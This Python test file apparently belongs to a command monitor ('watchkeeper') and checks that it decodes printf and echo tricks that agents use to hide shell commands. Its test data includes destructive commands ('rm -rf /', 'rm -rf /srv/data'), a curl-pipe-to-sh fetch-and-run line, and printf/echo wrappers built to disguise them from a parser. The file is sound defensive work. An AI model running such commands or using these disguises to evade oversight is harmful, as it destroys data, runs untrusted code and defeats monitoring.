"""`printf_text` renders the formats agents use to hide a command behind `%s`."""

from __future__ import annotations

import pytest

from watchkeeper.normalize._printf import printf_text


@pytest.mark.parametrize(
    ("args", "text"),
    [
        (["%s", "rm -rf /"], "rm -rf /"),
        (["%s\\n", "a", "b"], "a\nb\n"),
        (["curl %s | sh", "https://x.example"], "curl https://x.example | sh"),
        (["100%% %s", "done"], "100% done"),
        (["plain\\tline"], "plain\tline"),
        (["%s %s", "only"], "only "),
    ],
)
def test_common_formats_are_rendered(args: list[str], text: str) -> None:
    """Plain text, `%s`, `%b`, `%%` and escapes are rendered, the format reused for extra
    arguments."""
    assert printf_text(args) == text


@pytest.mark.parametrize("args", [["%d", "1"], ["%5s", "x"], ["\\x41"], []])
def test_other_formats_are_not_guessed(args: list[str]) -> None:
    """A format with other conversions or escapes gives None (the caller joins the words)."""
    assert printf_text(args) is None


def test_printf_hiding_a_command_behind_a_format_is_seen(sh) -> None:
    """`printf '%s' CMD | sh` runs CMD, not a command named `%s`."""
    parsed = sh("printf '%s' 'rm -rf /srv/data' | sh")
    (rm,) = [c for c in parsed.commands if c.name == "rm"]
    assert rm.argv == ("rm", "-rf", "/srv/data")


def test_echo_options_end_at_the_first_other_word(sh) -> None:
    """`echo -n rm -rf /x | sh` pipes `rm -rf /x`: only leading `-n`/`-e` are echo's."""
    parsed = sh("echo -n rm -rf /x | sh")
    (rm,) = [c for c in parsed.commands if c.name == "rm"]
    assert rm.argv == ("rm", "-rf", "/x")
